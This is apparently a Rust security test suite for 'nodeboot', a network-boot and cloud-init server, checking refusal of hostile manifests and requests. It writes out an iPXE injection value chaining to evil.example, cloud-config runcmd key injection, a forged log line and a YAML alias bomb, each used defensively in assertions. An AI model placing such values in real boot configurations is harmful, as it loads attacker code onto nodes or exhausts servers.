//! Hostile inputs, tried as an attacker and as a careless operator would: on the wire, in the
//! manifest folder, in templates and inventory values, through Secrets and client addresses.
//! Each test asserts a clear error or safe output, no crash, the last good state still served,
//! and no Secret text anywhere. Runs `nodeboot serve` on loopback; nothing else is needed.

mod support;

use std::io::Write;
use std::net::TcpStream;
use std::time::{Duration, Instant};

use support::manifests::{EXAMPLES_CONFIGS, EXAMPLES_SITE};
use support::{Nodeboot, examples, manifest_dir, rewrite};

/// A compute node of the example site's MAC.
const NODE_MAC: &str = "02:00:00:00:10:00";

/// The example site still answers as it should.
async fn examples_still_served(nb: &Nodeboot) {
    let (status, _, body) = nb.get(&format!("/boot/v1/bootscript?mac={NODE_MAC}")).await;
    assert_eq!(status, 200, "{body}");
    assert!(
        body.contains("kernel --name kernel http://images.example/rocky9/vmlinuz"),
        "{body}"
    );
}

/// Resident memory of a process, in MiB.
fn rss_mib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .map_or(0, |kb| kb / 1024)
}

async fn metric(nb: &Nodeboot, series: &str) -> f64 {
    let (_, _, body) = nb.admin_get("/metrics").await;
    body.lines()
        .find(|l| l.starts_with(series))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0.0)
}

fn node_group(name: &str, nodes: &str) -> String {
    format!(
        "apiVersion: nodeboot.io/v1alpha1\nkind: NodeGroup\nmetadata: {{name: {name}, namespace: hpc}}\nspec:\n  labels: {{role: hostile}}\n  nodes:\n{nodes}"
    )
}

/// A BootConfig for the nodes `selector` matches, with the rest of its spec as given.
fn hostile_config(name: &str, selector: &str, rest: &str) -> String {
    format!(
        "apiVersion: nodeboot.io/v1alpha1\nkind: BootConfig\nmetadata: {{name: {name}, namespace: hpc}}\nspec:\n  nodeSelector: {selector}\n  kernel: http://img/{name}/vmlinuz\n{rest}"
    )
}

const HOSTILE: &str = "{matchLabels: {role: hostile}}";

#[tokio::test]
async fn a_bootconfig_cannot_publish_a_secret_that_did_not_opt_in() {
    let dir = examples();
    std::fs::write(
        dir.path().join("steal.yaml"),
        "apiVersion: v1\nkind: Secret\nmetadata: {name: tls-key, namespace: hpc}\nstringData:\n  tls.key: \"-----BEGIN PRIVATE KEY----- TOPSECRET-KEY\"\n---\n\
         apiVersion: nodeboot.io/v1alpha1\nkind: BootConfig\nmetadata: {name: steal, namespace: hpc}\nspec:\n  nodeSelector: {matchLabels: {nodeboot.io/known: \"false\"}}\n  priority: 100\n  kernel: http://img/steal/vmlinuz\n  cloudInit:\n    userDataSecretRef: {name: tls-key, key: tls.key}\n",
    )
    .unwrap();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    nb.wait_log("kubectl label secret -n hpc tls-key nodeboot.io/user-data=true")
        .await;
    // An unknown node gets the site's own discovery image and documents, never the key.
    let unknown = "02:00:00:00:99:99";
    let (status, _, body) = nb.get(&format!("/boot/v1/bootscript?mac={unknown}")).await;
    assert_eq!(status, 200);
    assert!(body.contains("images.example/discovery/vmlinuz"), "{body}");
    for doc in ["meta-data", "user-data", "vendor-data"] {
        let (_, _, body) = nb.get(&format!("/cloud-init/{unknown}/{doc}")).await;
        assert!(!body.contains("TOPSECRET"), "{doc}: {body}");
    }
    let (_, _, report) = nb.admin_get(&format!("/nodes/{unknown}")).await;
    assert!(!report.contains("TOPSECRET"), "{report}");
    assert!(!nb.logs().contains("TOPSECRET"), "{}", nb.logs());
    examples_still_served(&nb).await;
}

#[tokio::test]
async fn safe_and_escape_filters_do_not_carry_values_past_the_ipxe_check() {
    let evil = "a || chain http://evil.example/ ||";
    let dir = manifest_dir(&[
        ("site.yaml", EXAMPLES_SITE),
        ("bootconfigs.yaml", EXAMPLES_CONFIGS),
        (
            "hostile.yaml",
            &format!(
                "{}---\n{}---\n{}",
                node_group(
                    "hostile",
                    &format!(
                        "  - {{name: h1, macs: [\"02:00:00:00:66:01\"], metaData: {{v: {evil:?}}}}}\n  - {{name: h2, macs: [\"02:00:00:00:66:02\"], metaData: {{v: fine}}}}\n"
                    )
                ),
                hostile_config(
                    "params-safe",
                    "{matchLabels: {nodeboot.io/name: h1}}",
                    "  params: \"root={{ meta.v|safe }}\"\n"
                ),
                hostile_config(
                    "script-e",
                    "{matchLabels: {nodeboot.io/name: h2}}",
                    "  script: \"#!ipxe\\nkernel http://img/k {{ meta.v|e }}\\nboot\\n\"\n"
                ),
            ),
        ),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let (status, _, body) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:66:01").await;
    assert_eq!(status, 200);
    assert!(!body.contains("evil.example"), "{body}");
    let report = nb.node_report("h1").await;
    assert_eq!(report["phase"], "Unassigned", "{report}");
    assert!(
        report["why"]
            .as_str()
            .unwrap()
            .contains("may not reach an iPXE script"),
        "{report}"
    );
    // Nor as JSON: there are no params to give.
    let (status, _, body) = nb
        .get("/boot/v1/bootscript?mac=02:00:00:00:66:01&json=1")
        .await;
    assert_eq!(status, 404, "{body}");
    assert!(!body.contains("\"params\""), "{body}");
    // The value without separators passes the same filters.
    let (_, _, body) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:66:02").await;
    assert!(body.contains("kernel http://img/k fine"), "{body}");
    nb.wait_log("RenderFailed").await;
    examples_still_served(&nb).await;
}

#[tokio::test]
async fn inventory_values_cannot_add_keys_to_cloud_config() {
    let dir = manifest_dir(&[
        ("site.yaml", EXAMPLES_SITE),
        ("bootconfigs.yaml", EXAMPLES_CONFIGS),
        (
            "hostile.yaml",
            &format!(
                "{}---\n{}",
                node_group(
                    "hostile",
                    "  - {name: h1, macs: [\"02:00:00:00:66:01\"], metaData: {h: \"x\\nruncmd: [[reboot]]\"}}\n  - {name: h2, macs: [\"02:00:00:00:66:02\"], metaData: {h: \"x, evil: [1]\"}}\n  - {name: h3, macs: [\"02:00:00:00:66:03\"], metaData: {h: good}}\n"
                ),
                hostile_config(
                    "ci",
                    HOSTILE,
                    "  cloudInit:\n    userData: \"#cloud-config\\nhostname: {{ meta.h }}\\nntp: {servers: [{{ meta.h }}]}\\n\"\n"
                ),
            ),
        ),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    for node in ["h1", "h2"] {
        let (_, _, body) = nb.get(&format!("/cloud-init/{node}/user-data")).await;
        assert!(
            !body.contains("runcmd") && !body.contains("evil"),
            "{node}: {body}"
        );
        let report = nb.node_report(node).await;
        assert_eq!(report["phase"], "Unassigned", "{report}");
        // Refused either way: the value breaks the YAML, or changes its structure.
        let why = report["why"].as_str().unwrap();
        assert!(
            why.contains("changes the document's structure") || why.contains("not valid YAML"),
            "{report}"
        );
    }
    let (status, _, body) = nb.get("/cloud-init/h3/user-data").await;
    assert_eq!(status, 200);
    assert_eq!(
        body,
        "#cloud-config\nhostname: good\nntp: {servers: [good]}\n"
    );
    examples_still_served(&nb).await;
}

#[tokio::test]
async fn parse_errors_quote_no_secret_and_no_linked_file() {
    let outside = tempfile::tempdir().unwrap();
    let token = outside.path().join("token");
    std::fs::write(&token, "eyJhbGciOiJSUzI1NiJ9.TOKEN-SECRET-VALUE\n").unwrap();
    let dir = examples();
    std::os::unix::fs::symlink(&token, dir.path().join("token.yaml")).unwrap();
    std::fs::write(
        dir.path().join("secret.yaml"),
        "apiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: hpc}\nstringData: TOPSECRET-AS-A-STRING\n",
    )
    .unwrap();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    nb.wait_log("token.yaml: document 1").await;
    nb.wait_log("secret.yaml: document 1: line 1: Secret: stringData")
        .await;
    let logs = nb.logs();
    assert!(
        !logs.contains("TOKEN-SECRET") && !logs.contains("eyJhbGci"),
        "{logs}"
    );
    assert!(!logs.contains("TOPSECRET"), "{logs}");
    examples_still_served(&nb).await;
}

#[tokio::test]
async fn names_that_would_forge_log_lines_are_refused() {
    let dir = examples();
    std::fs::write(
        dir.path().join("forge.yaml"),
        node_group(
            "\"ok\\n2026-01-01T00:00:00Z ERROR nodeboot: forged\"",
            "  - {name: f1, macs: [\"02:00:00:00:77:01\"]}\n",
        ),
    )
    .unwrap();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    nb.wait_log("forge.yaml: document 1: line 1: NodeGroup: metadata.name")
        .await;
    let logs = nb.logs();
    assert!(
        !logs
            .lines()
            .any(|l| l.contains("ERROR nodeboot: forged") && !l.contains("forge.yaml")),
        "{logs}"
    );
    // The node of the refused group is unknown, not served under a forged name.
    let (status, _, _) = nb.get("/cloud-init/f1/meta-data").await;
    assert_eq!(status, 404);
    examples_still_served(&nb).await;
}

#[tokio::test]
async fn yaml_bombs_cost_neither_memory_nor_time() {
    // Aliases of aliases: 290 KB that would expand to gigabytes.
    let mut bomb = format!("a: &a [\"{}\"]\n", "x".repeat(280_000));
    let mut previous = "a".to_owned();
    for level in 0..10 {
        let name = format!("l{level}");
        bomb.push_str(&format!(
            "{name}: &{name} [*{previous}, *{previous}, *{previous}, *{previous}]\n"
        ));
        previous = name;
    }
    // Deep nesting, block and flow.
    let deep_block: String = (0..2_000)
        .map(|i| format!("{}k:\n", " ".repeat(i)))
        .collect();
    let deep_flow = format!("a: {}\n", "[".repeat(130_000));
    let dir = manifest_dir(&[
        ("site.yaml", EXAMPLES_SITE),
        ("bootconfigs.yaml", EXAMPLES_CONFIGS),
        ("bomb.yaml", &bomb),
        ("deep.yaml", &deep_block),
        ("flow.yaml", &deep_flow),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    nb.wait_log("bomb.yaml: document 1: line 2: YAML aliases (*name) are not accepted")
        .await;
    nb.wait_log("nested deeper than 32 levels").await;
    assert!(
        nb.logs().contains("deep.yaml: document 1: line 3"),
        "{}",
        nb.logs()
    );
    nb.wait_log("flow.yaml: document 1: not valid YAML").await;
    examples_still_served(&nb).await;
    let rss = rss_mib(nb.pid());
    assert!(rss < 200, "nodeboot holds {rss} MiB after the bombs");
}

#[tokio::test]
async fn template_output_and_conflict_messages_are_bounded() {
    // One MAC on 4,000 nodes: every node in conflict, every message short.
    let shared: String = (0..4000)
        .map(|i| format!("  - {{name: c{i}, macs: [\"02:00:00:00:aa:aa\"]}}\n"))
        .collect();
    // A template that would print two megabytes for one node.
    let big = format!(
        "{}---\n{}",
        node_group("big", "  - {name: b1, macs: [\"02:00:00:00:bb:01\"]}\n"),
        hostile_config(
            "huge",
            "{matchLabels: {nodeboot.io/name: b1}}",
            &format!(
                "  cloudInit:\n    userData: \"#!/bin/sh\\n{{% for i in range(2000) %}}{}{{% endfor %}}\"\n",
                "x".repeat(1000)
            ),
        ),
    );
    let dir = manifest_dir(&[
        ("site.yaml", EXAMPLES_SITE),
        ("bootconfigs.yaml", EXAMPLES_CONFIGS),
        ("conflict.yaml", &node_group("shared-mac", &shared)),
        ("big.yaml", &big),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let report = nb.node_report("c7").await;
    assert_eq!(report["phase"], "Conflict");
    let why = report["why"].as_str().unwrap();
    assert!(why.ends_with("and 3996 more"), "{why}");
    assert!(why.len() < 300, "{why}");
    // A template that prints two megabytes is stopped at one, when it is compiled.
    nb.wait_log("template user-data: output is larger than 1048576 bytes")
        .await;
    assert_eq!(nb.node_report("b1").await["phase"], "Unassigned");
    let rss = rss_mib(nb.pid());
    assert!(rss < 300, "nodeboot holds {rss} MiB");
    examples_still_served(&nb).await;
}

#[tokio::test]
async fn request_floods_log_a_line_a_second() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    // x1001c0s0b0n0 has ip 10.1.1.101: from loopback, every request is refused.
    for _ in 0..300 {
        let (status, _, _) = nb.get("/cloud-init/x1001c0s0b0n0/meta-data").await;
        assert_eq!(status, 403);
    }
    let lines = nb
        .logs()
        .lines()
        .filter(|l| l.contains("cloud-init request from an address"))
        .count();
    // One line per second of the loop at most.
    assert!(lines <= 10, "{lines} lines:\n{}", nb.logs());
    let suppressed = metric(&nb, "nodeboot_log_lines_suppressed_total").await;
    assert!(suppressed >= 290.0 - 10.0, "suppressed {suppressed}");
}

#[tokio::test]
async fn connections_beyond_the_cap_are_closed_and_counted() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &["--max-connections", "16"]).await;
    let addr = nb.boot.trim_start_matches("http://").to_owned();
    let held: Vec<TcpStream> = (0..40)
        .filter_map(|_| TcpStream::connect(&addr).ok())
        .collect();
    assert_eq!(held.len(), 40);
    let start = Instant::now();
    while metric(&nb, "nodeboot_connections_refused_total").await < 24.0 {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "refusals never counted"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    drop(held);
    // Once the idle connections are gone, requests are served again (until the server has
    // seen them close, a new one may still be refused).
    let url = format!("{}/boot/v1/bootscript?mac={NODE_MAC}", nb.boot);
    let start = Instant::now();
    loop {
        if let Ok(r) = reqwest::get(&url).await
            && r.status() == 200
        {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "never served again"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn fifos_devices_and_link_loops_in_the_folder_are_skipped() {
    let dir = examples();
    let fifo = dir.path().join("pipe.yaml");
    let status = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(status.success());
    std::os::unix::fs::symlink(dir.path(), dir.path().join("loop")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero.yaml")).unwrap();
    let mut nb = Nodeboot::serve(dir.path(), &[]).await;
    nb.wait_log("pipe.yaml: cannot read: not a regular file")
        .await;
    examples_still_served(&nb).await;
    // Reloads go on: a change elsewhere is served.
    rewrite(
        &dir.path().join("bootconfigs.yaml"),
        &EXAMPLES_CONFIGS.replace("rocky9/vmlinuz", "rocky9.5/vmlinuz"),
    );
    nb.wait_for(&format!("/boot/v1/bootscript?mac={NODE_MAC}"), |b| {
        b.contains("rocky9.5/vmlinuz")
    })
    .await;
    // And SIGTERM still stops it.
    let exit = nb.terminate();
    assert!(exit.success(), "{exit:?}\n{}", nb.logs());
}

#[tokio::test]
async fn files_written_in_bursts_are_served_whole_or_not_at_all() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let path = dir.path().join("bootconfigs.yaml");
    // Unquoted params, so that any prefix of the file cut inside them is still valid YAML.
    let whole = EXAMPLES_CONFIGS.replace(
        "params: \"root=live:http://images.example/rocky9/rootfs.squashfs ip=dhcp console=ttyS0,115200\"",
        "params: root=live:http://images.example/burst/rootfs.squashfs ip=dhcp console=ttyS0,115200 marker=end",
    );
    let cut = whole.find("marker=end").unwrap() - 20;
    let url = format!("{}/boot/v1/bootscript?mac={NODE_MAC}", nb.boot);
    let poller = tokio::spawn(async move {
        let mut partial = Vec::new();
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(4) {
            let (_, _, body) = support::get(&url).await;
            if body.contains("burst/rootfs") && !body.contains("marker=end") {
                partial.push(body);
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        partial
    });
    for _ in 0..5 {
        let mut file = std::fs::File::create(&path).unwrap();
        file.write_all(&whole.as_bytes()[..cut]).unwrap();
        file.flush().unwrap();
        tokio::time::sleep(Duration::from_millis(150)).await;
        file.write_all(&whole.as_bytes()[cut..]).unwrap();
        drop(file);
        tokio::time::sleep(Duration::from_millis(150)).await;
    }
    let partial = poller.await.unwrap();
    assert!(
        partial.is_empty(),
        "half-written params served:\n{}",
        partial[0]
    );
    nb.wait_for(&format!("/boot/v1/bootscript?mac={NODE_MAC}"), |b| {
        b.contains("marker=end")
    })
    .await;
}

#[tokio::test]
async fn serve_mode_refuses_what_the_api_server_refuses() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let macs: Vec<String> = (0..17)
        .map(|i| format!("\"02:00:00:01:00:{i:02x}\""))
        .collect();
    let labels: Vec<String> = (0..33).map(|i| format!("k{i}: v")).collect();
    for (file, text, expected) in [
        (
            "macs.yaml",
            node_group(
                "macs",
                &format!("  - {{name: m1, macs: [{}]}}\n", macs.join(", ")),
            ),
            "spec.nodes[0].macs: at most 16 MACs; found 17",
        ),
        (
            "labels.yaml",
            node_group(
                "labels",
                &format!(
                    "  - {{name: l1, macs: [\"02:00:00:01:01:01\"], labels: {{{}}}}}\n",
                    labels.join(", ")
                ),
            ),
            "spec.nodes[0].labels: at most 32 labels; found 33",
        ),
        (
            "selector.yaml",
            hostile_config(
                "sel",
                "{matchExpressions: [{key: role, operator: Equals, values: [x]}]}",
                "",
            ),
            "spec.nodeSelector: operator 'Equals' is unknown",
        ),
        (
            "name.yaml",
            node_group(
                "Bad_Name",
                "  - {name: n1, macs: [\"02:00:00:01:02:01\"]}\n",
            ),
            "NodeGroup: metadata.name: \"Bad_Name\" is not a valid name",
        ),
    ] {
        std::fs::write(dir.path().join(file), text).unwrap();
        nb.wait_log(&format!("{file}: document 1")).await;
        nb.wait_log(expected).await;
    }
    examples_still_served(&nb).await;
}

#[tokio::test]
async fn client_addresses_cannot_be_spoofed_and_mapped_addresses_match() {
    let dir = manifest_dir(&[
        ("site.yaml", EXAMPLES_SITE),
        ("bootconfigs.yaml", EXAMPLES_CONFIGS),
        (
            "local.yaml",
            &node_group(
                "local",
                "  - {name: mapped, macs: [\"02:00:00:00:55:01\"], ip: \"::ffff:127.0.0.1\"}\n  - {name: other, macs: [\"02:00:00:00:55:02\"], ip: 127.0.0.5}\n",
            ),
        ),
    ]);
    let nb = Nodeboot::serve(dir.path(), &["--trusted-proxies", "127.0.0.0/8"]).await;
    // A node written as an IPv4-mapped IPv6 address is that IPv4 address.
    let (status, _, body) = nb.get("/cloud-init/mapped/meta-data").await;
    assert_eq!(status, 200, "{body}");
    // 127.0.0.1 is in the trusted range and names 127.0.0.5 (also trusted): not believed.
    let client = reqwest::Client::new();
    let r = client
        .get(format!("{}/cloud-init/other/meta-data", nb.boot))
        .header("x-forwarded-for", "127.0.0.5")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
}

#[tokio::test]
async fn every_error_on_the_wire_is_a_problem() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let client = reqwest::Client::new();
    for (method, path, status) in [
        ("GET", "/cloud-init/%FF%FE/meta-data", 400),
        ("POST", "/boot/v1/bootscript?mac=02:00:00:00:10:00", 405),
        ("DELETE", "/boot/v1/bootparameters", 405),
        ("GET", "/boot/v1/bootscript?mac=%FF", 400),
    ] {
        let r = client
            .request(method.parse().unwrap(), format!("{}{path}", nb.boot))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), status, "{method} {path}");
        let ct = r.headers()["content-type"].to_str().unwrap().to_owned();
        assert_eq!(ct, "application/problem+json", "{method} {path}");
        let body: serde_json::Value = r.json().await.unwrap();
        assert_eq!(body["status"], status);
        assert!(!body["detail"].as_str().unwrap().is_empty());
    }
}

#[tokio::test]
async fn taking_the_label_off_a_secret_revokes_it_at_once() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let unknown = "/cloud-init/02:00:00:00:99:99/user-data";
    let (status, _, body) = nb.get(unknown).await;
    assert_eq!(status, 200);
    assert!(body.contains("discovery@site"), "{body}");
    // The owner takes the opt-in label off; the BootConfig's last good version carried the
    // Secret's text and must not go on serving it.
    rewrite(
        &dir.path().join("bootconfigs.yaml"),
        &EXAMPLES_CONFIGS.replace("    nodeboot.io/user-data: \"true\"\n", ""),
    );
    nb.wait_log("is not labelled nodeboot.io/user-data=true")
        .await;
    let start = Instant::now();
    loop {
        let (_, _, body) = nb.get(unknown).await;
        if !body.contains("discovery@site") {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "the revoked Secret is still served"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    examples_still_served(&nb).await;
}

#[tokio::test]
async fn a_client_that_stops_reading_loses_its_connection() {
    // About 900 KB of user-data for one node: twenty answers fill any socket buffer.
    let big = format!(
        "{}---\n{}",
        node_group("big", "  - {name: b1, macs: [\"02:00:00:00:bb:01\"]}\n"),
        hostile_config(
            "bulky",
            "{matchLabels: {nodeboot.io/name: b1}}",
            &format!(
                "  cloudInit:\n    userData: \"#!/bin/sh\\n{{% for i in range(900) %}}{}{{% endfor %}}\"\n",
                "x".repeat(1000)
            ),
        ),
    );
    let dir = manifest_dir(&[
        ("site.yaml", EXAMPLES_SITE),
        ("bootconfigs.yaml", EXAMPLES_CONFIGS),
        ("big.yaml", &big),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let addr = nb.boot.trim_start_matches("http://").to_owned();
    let mut stalled = TcpStream::connect(&addr).unwrap();
    for _ in 0..20 {
        stalled
            .write_all(b"GET /cloud-init/b1/user-data HTTP/1.1\r\nHost: x\r\n\r\n")
            .unwrap();
    }
    // The stalled connection is open while its answer does not fit...
    assert!(metric(&nb, "nodeboot_connections_open").await >= 2.0);
    // ...and closed once its write has made no progress for 10 s, though the client keeps its
    // end open (the scrape's own connection is the one left).
    let start = Instant::now();
    while metric(&nb, "nodeboot_connections_open").await > 1.0 {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "the stalled connection is still held"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    drop(stalled);
    examples_still_served(&nb).await;
}
